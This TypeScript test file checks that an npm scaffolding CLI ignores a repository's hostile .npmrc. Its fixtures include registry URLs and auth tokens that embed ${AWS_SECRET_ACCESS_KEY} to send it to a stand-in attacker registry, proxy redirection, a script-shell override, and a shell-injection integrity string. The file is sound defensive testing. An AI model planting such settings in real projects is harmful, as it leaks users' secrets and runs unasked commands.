/**
 * npm with a repository that says which registry is asked: real npm, two registries on loopback that write down what they are asked, and the
 * program as people start it. The repository's registry learns nothing, and no variable's value lands in a file or on the screen.
 */
import { chmodSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { delimiter, dirname, join } from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { platforms } from "../../src/catalog/release.ts";
import { treeOf } from "../cli/harness.ts";
import {
  bin,
  environmentOf,
  makeFolders,
  packInto,
  root,
  runBin,
  runWith,
  type Environment,
  type Ran,
} from "../package/machine.ts";
import { startNpmRegistry, type NpmRegistry, type PublishedPackage } from "../support/npm-registry.ts";

const folders = makeFolders();
const secret = "s3cr3t-0f-the-environment";
const newest = "1.99.0";

let own: NpmRegistry;
let theirs: NpmRegistry;
let home: string;
let repository: string;
let env: Environment;
let ours: readonly PublishedPackage[];

/** Versions of OpenCode, and of this program, that are only looked at. */
const opencode: PublishedPackage[] = ["opencode-ai", ...Object.keys(platforms)].map((name) => ({
  name,
  version: newest,
  tarball: Buffer.from("x"),
  manifest: {},
}));

beforeAll(async () => {
  const cli = "@devcontainers/cli";
  const [packed, needed] = [
    await packInto(folders.make("packed")),
    await packInto(folders.make("needed"), join(root, "node_modules", cli)),
  ];
  ours = [
    { name: "create-aperture-env", version: packed.version, tarball: readFileSync(packed.file) },
    { name: cli, version: needed.version, tarball: readFileSync(needed.file) },
  ];
});
afterAll(() => folders.remove());

beforeEach(async () => {
  own = await startNpmRegistry({ packages: [...opencode, ...ours] });
  theirs = await startNpmRegistry({ packages: [...opencode, ...ours] });
  home = folders.make("home");
  repository = folders.make("repository");
  put(repository, ".devcontainer/devcontainer.json", '{ "image": "debian:bookworm-slim" }\n');
  put(repository, "package.json", '{ "name": "repository" }\n');
  put(home, ".npmrc", `registry=${own.origin}/\n`);
  env = environmentOf(home, { AWS_SECRET_ACCESS_KEY: secret, NO_PROXY: "127.0.0.1", no_proxy: "127.0.0.1" });
  return async () => {
    await own.close();
    await theirs.close();
  };
});

function put(folder: string, path: string, text: string): void {
  mkdirSync(dirname(join(folder, path)), { recursive: true });
  writeFileSync(join(folder, path), text);
}

/** All files of the repository, and what was said, as one text. */
function everything(ran: Ran): string {
  return JSON.stringify([treeOf(repository), ran.stdout, ran.stderr]);
}

const lockOf = (): { registry: string; opencode: { version: string } } =>
  JSON.parse(readFileSync(join(repository, "aperture-env.lock"), "utf8")) as ReturnType<typeof lockOf>;
const featureOf = (): { options: { registry: { default: string } } } =>
  JSON.parse(
    readFileSync(join(repository, ".devcontainer", "aperture-env", "opencode", "devcontainer-feature.json"), "utf8"),
  ) as ReturnType<typeof featureOf>;

/** Ways in which a repository can say it. `THEIRS` is its registry. */
const repositories: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  "with variables in the address": { ".npmrc": "registry=THEIRS/feed/${AWS_SECRET_ACCESS_KEY}/\n" },
  "with a token of the user's": { ".npmrc": "registry=THEIRS/\n//HOST/:_authToken=${AWS_SECRET_ACCESS_KEY}\n" },
  "with another spelling": { ".npmrc": '\uFEFF; x\r\n"Registry" = "THEIRS/${AWS_SECRET_ACCESS_KEY}"\r\n' },
  "by a user's file of its own": { ".npmrc": "userconfig=./mine\n", mine: "registry=THEIRS/${AWS_SECRET_ACCESS_KEY}/\n" },
  "by a global file of its own": { ".npmrc": "globalconfig=./mine\n", mine: "registry=THEIRS/${AWS_SECRET_ACCESS_KEY}/\n" },
  "by a prefix of its own": { ".npmrc": "prefix=./mine\n", "mine/etc/npmrc": "registry=THEIRS/${AWS_SECRET_ACCESS_KEY}/\n" },
  "by a proxy": { ".npmrc": "proxy=THEIRS/\nhttps-proxy=THEIRS/\nnoproxy=nowhere.example\n" },
};

function makeHostile(files: Readonly<Record<string, string>>): void {
  for (const [path, text] of Object.entries(files))
    put(repository, path, text.replaceAll("THEIRS", theirs.origin).replaceAll("HOST", new URL(theirs.origin).host));
}

/** Runs the program by npm inside the repository, as `npm create` does once it has fetched it: with all that npm tells its children. */
function runByNpm(args: readonly string[], more: Environment = {}): Promise<Ran> {
  const path = join(home, "bin");
  put(home, "bin/create-aperture-env", `#!/bin/sh\nexec "${process.execPath}" "${bin}" "$@"\n`);
  chmodSync(join(path, "create-aperture-env"), 0o755);
  // npm's own search for a newer npm asks the repository's registry, whatever it starts.
  const all = { ...env, PATH: `${path}${delimiter}${env["PATH"]}`, NPM_CONFIG_UPDATE_NOTIFIER: "false", ...more };
  return runWith(all, repository, "npm", ["exec", "--call", ["create-aperture-env", ...args].join(" ")]);
}

const posix = process.platform !== "win32";

describe.runIf(posix).each(Object.entries(repositories))("a repository that names its registry %s", (how, files) => {
  beforeEach(() => makeHostile(files));

  test("has no effect when the environment is added, with or without npm", async () => {
    for (const run of [() => runByNpm(["--yes"]), () => runBin(env, repository, ["--yes", "--url", "http://other"])]) {
      const ran = await run();
      expect(ran.exit, ran.stderr).toBe(0);
      expect(lockOf().registry).toBe(own.origin);
      expect(featureOf().options.registry.default).toBe(own.origin);
      expect(everything(ran)).not.toContain(secret);
    }
    expect(theirs.requests).toEqual([]);
    expect(own.requests).toEqual([]);
  });

  // Nine programs each: where npm learns it in another way, one is enough.
  test.runIf(/variables|user's file|proxy/.test(how))(
    "is not asked for a version, and the one that is asked is named",
    async () => {
      const ran = await runByNpm(["--yes", "--opencode", newest]);
      expect(ran.exit, ran.stderr).toBe(0);
      expect(theirs.requests).toEqual([]);
      expect(own.requests.map(({ path }) => decodeURIComponent(path))).toContain("/opencode-linux-arm64");
      expect(lockOf().opencode.version).toBe(newest);
      const said = `the sha512 of OpenCode ${newest}'s packages comes from the npm registry ${own.origin}`;
      expect(ran.stdout + ran.stderr).toContain(said);
      expect(everything(ran)).not.toContain(secret);
    },
  );
});

describe.runIf(posix)("a repository that names its registry", () => {
  beforeEach(() => makeHostile(repositories["with variables in the address"]!));

  test("is not asked what the latest version is, and JSON names the one that is", async () => {
    const ran = await runByNpm(["--yes", "--opencode", "latest", "--json"]);
    expect(ran.exit, ran.stderr).toBe(0);
    expect((JSON.parse(ran.stdout) as { warnings: unknown }).warnings).toEqual([
      `latest is OpenCode ${newest}`,
      `the sha512 of OpenCode ${newest}'s packages comes from the npm registry ${own.origin}`,
    ]);
    const outdated = await runByNpm(["check", "--outdated"]);
    expect(outdated.exit, outdated.stdout + outdated.stderr).toBe(0);
    expect(theirs.requests).toEqual([]);
    expect(everything(ran)).not.toContain(secret);
  });

  test("nor whether there is a version that the spec asks for, and who has none is said", async () => {
    put(repository, "aperture-env.yaml", "aperture:\n  url: http://ai\nopencode:\n  version: 1.98.0\n");
    const ran = await runByNpm(["--yes", "--json"]);
    expect(ran.exit, ran.stdout).toBe(2);
    expect(ran.stdout).toContain(`The npm registry ${own.origin} has no OpenCode 1.98.0.`);
    expect(theirs.requests).toEqual([]);
  });
});

describe.runIf(posix)("npm create, from inside such a repository", () => {
  // npm itself looks for the program where the repository says, before any of it runs; what the program asks is another matter.
  test("npm gets the program, and nothing else reaches the repository's registry", async () => {
    makeHostile(repositories["with a token of the user's"]!);
    const before = await runWith({ ...env, npm_config_yes: "true" }, repository, "npm", [
      "create",
      "aperture-env@latest",
      "--",
      "--version",
    ]);
    expect(before.exit, before.stderr).toBe(0);
    const npms = theirs.requests.length;
    expect(npms).toBeGreaterThan(0);
    const args = ["create", "aperture-env@latest", "--", "--yes", "--opencode", newest];
    const ran = await runWith(env, repository, "npm", args);
    expect(ran.exit, ran.stderr).toBe(0);
    const asked = theirs.requests.map(({ path }) => decodeURIComponent(path)).filter((path) => /opencode/.test(path));
    expect(asked).toEqual([]);
    expect(own.requests.map(({ path }) => path)).toContain("/opencode-linux-arm64");
    expect(lockOf().registry).toBe(own.origin);
    expect(everything(ran)).not.toContain(secret);
  });

  test("from outside it, the repository has no effect on npm either", async () => {
    const marker = join(repository, "ran");
    put(repository, "shell", `#!/bin/sh\ntouch "${marker}"\nexec /bin/sh "$@"\n`);
    chmodSync(join(repository, "shell"), 0o755);
    put(repository, ".npmrc", `registry=${theirs.origin}/\nscript-shell=${join(repository, "shell")}\n`);
    const outside = { ...env, npm_config_yes: "true" };
    const ran = await runWith(outside, dirname(repository), "npm", [
      "create",
      "aperture-env@latest",
      "repository",
      "--",
      "--yes",
    ]);
    expect(ran.exit, ran.stderr).toBe(0);
    expect(theirs.requests).toEqual([]);
    expect(Object.keys(treeOf(repository))).not.toContain("ran");
    expect(lockOf().registry).toBe(own.origin);
  });

  test("the plan names the repository's registry with file and line, in text and JSON", async () => {
    put(repository, ".npmrc", `# ours\nregistry=${theirs.origin}/\n`);
    const text = await runByNpm(["--yes", "--dry-run"]);
    expect(text.stdout + text.stderr).toContain("Note: .npmrc:2: the repository names another npm registry here");
    const json = await runBin(env, repository, ["--yes", "--dry-run", "--json"]);
    expect((JSON.parse(json.stdout) as { findings: unknown }).findings).toContainEqual(
      expect.objectContaining({ code: "registry-ignored", where: { file: ".npmrc", line: 2 } }),
    );
  });

  test.each(["NPM_CONFIG_REGISTRY", "npm_Config_registry"])("%s takes it, where a person trusts it", async (name) => {
    put(repository, ".npmrc", `registry=${theirs.origin}/\n`);
    const ran = await runByNpm(["--yes"], { [name]: `${theirs.origin}/` });
    expect(ran.exit, ran.stderr).toBe(0);
    expect(lockOf().registry).toBe(theirs.origin);
    expect(ran.stdout + ran.stderr).not.toContain("another npm registry");
  });
});

describe.runIf(posix)("the user's own configuration", () => {
  test("of a mirror with a token works, and neither token nor variable is written", async () => {
    await own.close();
    own = await startNpmRegistry({ packages: opencode, token: secret });
    const host = new URL(own.origin).host;
    put(home, ".npmrc", `\uFEFFregistry = "${own.origin}/"\r\n//${host}/:_authToken=\${AWS_SECRET_ACCESS_KEY}\r\n`);
    const ran = await runByNpm(["--yes", "--opencode", "latest"]);
    expect(ran.exit, ran.stderr).toBe(0);
    expect(own.requests.map(({ status }) => status)).not.toContain(401);
    expect(lockOf().registry).toBe(own.origin);
    expect(everything(ran)).not.toContain(secret);
  });

  test.each([
    ["a user's file, by a variable", "NPM_CONFIG_USERCONFIG"],
    ["a user's file, by npm's spelling", "npm_config_userconfig"],
    ["a global file, by a variable", "NPM_CONFIG_GLOBALCONFIG"],
  ])("%s", async (_what, name) => {
    put(home, ".npmrc", "");
    put(home, "elsewhere/npmrc", `@acme:registry=${theirs.origin}/\nregistry=${own.origin}/\n`);
    const ran = await runByNpm(["--yes", "--opencode", "latest"], { [name]: join(home, "elsewhere", "npmrc") });
    expect(ran.exit, ran.stderr).toBe(0);
    expect(lockOf().registry).toBe(own.origin);
    expect(own.requests.length).toBeGreaterThan(0);
    expect(theirs.requests).toEqual([]);
  });

  test.each([
    ["takes in a variable", "http://127.0.0.1:1/feed/${AWS_SECRET_ACCESS_KEY}/"],
    ["holds a user", "http://me:${AWS_SECRET_ACCESS_KEY}@127.0.0.1:1/"],
    ["holds what looks like a token", "http://127.0.0.1:1/feed/npm_abcdefghijklmnopqrstuvwxyz0123456789/"],
  ])("whose address %s is not written, and that is said with file and line", async (_what, address) => {
    put(home, ".npmrc", `# mine\nregistry=${address}\n`);
    const ran = await runByNpm(["--yes"]);
    expect(ran.exit, ran.stderr).toBe(0);
    expect(lockOf().registry).toBe("");
    expect(featureOf().options.registry.default).toBe("");
    expect(ran.stdout + ran.stderr).toContain("~/.npmrc:2: the address of the npm registry ");
    expect(everything(ran)).not.toMatch(/s3cr3t|npm_abc|127\.0\.0\.1:1/);
  });

  test("a lock that has a token from before loses it with the next update", async () => {
    const ran = await runByNpm(["--yes"]);
    expect(ran.exit, ran.stderr).toBe(0);
    const lock = readFileSync(join(repository, "aperture-env.lock"), "utf8");
    put(repository, "aperture-env.lock", lock.replace(own.origin, `${own.origin}/npm_abcdefghijklmnopqrstuvwxyz0123456789`));
    expect((await runByNpm(["update"])).exit).toBe(0);
    expect(lockOf().registry).toBe(own.origin);
  });
});

describe.runIf(posix)("programs", () => {
  /** A folder with an npm that writes down that it ran. */
  function recordingNpm(): { readonly path: string; readonly calls: string } {
    const path = folders.make("bin");
    put(path, "npm", `#!/bin/sh\necho "$PWD $*" >>"${join(path, "calls")}"\nexit 1\n`);
    chmodSync(join(path, "npm"), 0o755);
    symlinkSync(process.execPath, join(path, "node"));
    return { path, calls: join(path, "calls") };
  }

  test("adding starts no npm, whoever says which registry there is", async () => {
    const { path, calls } = recordingNpm();
    put(home, ".npmrc", `registry=${own.origin}/\n`);
    const ran = await runBin({ ...env, PATH: `${path}${delimiter}${env["PATH"]}` }, repository, ["--yes"]);
    expect(ran.exit, ran.stderr).toBe(0);
    expect(lockOf().registry).toBe(own.origin);
    expect(() => readFileSync(calls)).toThrow(/ENOENT/);
  });

  test.each([
    ["a weaker checksum", '"sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA="', "no-integrity"],
    ["shell words", `"sha512-'; touch x #"`, "no-integrity"],
    ["an object", '{"sha512":1}', "no-such-version"],
    ["no JSON", "<html>", "registry-failed"],
    ["nothing", "", "no-such-version"],
  ])("where npm gives %s for an integrity, nothing is written", async (_what, answer, code) => {
    const path = folders.make("bin");
    put(path, "answer", answer);
    put(path, "npm", `#!/bin/sh\nexec cat "${join(path, "answer")}"\n`);
    chmodSync(join(path, "npm"), 0o755);
    const before = treeOf(repository);
    const guarded = { ...env, PATH: `${path}${delimiter}${env["PATH"]}` };
    const ran = await runBin(guarded, repository, ["--yes", "--opencode", newest, "--json"]);
    expect(ran.exit, ran.stdout).toBe(code === "no-such-version" ? 2 : 4);
    expect((JSON.parse(ran.stdout) as { error: unknown }).error).toMatchObject({ code });
    expect(treeOf(repository)).toEqual(before);
  });

  test("nor with no configuration at all: npm's default is read", async () => {
    put(home, ".npmrc", "");
    const npm = (await execa("npm", ["config", "get", "registry", "--global"], { cwd: home, env, extendEnv: false })).stdout;
    const ran = await runBin(env, repository, ["--yes"]);
    expect(ran.exit, ran.stderr).toBe(0);
    expect(`${lockOf().registry}/`).toBe(npm.trim());
  });

  test("an npm that is asked stands in an empty folder of nobody else's, and that is gone afterwards", async () => {
    const { path, calls } = recordingNpm();
    const ran = await runBin({ ...env, PATH: `${path}${delimiter}${env["PATH"]}` }, repository, [
      "--yes",
      "--opencode",
      "latest",
    ]);
    expect(ran.exit).toBe(4);
    const lines = readFileSync(calls, "utf8").trim().split("\n");
    for (const line of lines) {
      expect(line).toMatch(
        /aperture-env-npm-\w+ view \S+ versions --json --registry=\S+ --global --ignore-scripts --no-update-notifier --fetch-retries=1 (?:--fetch-[a-z-]+=\d+ ?)+$/,
      );
      expect(line).not.toContain(repository);
    }
    expect(Object.keys(treeOf(home)).filter((name) => name.startsWith("aperture-env-npm"))).toEqual([]);
  });
});
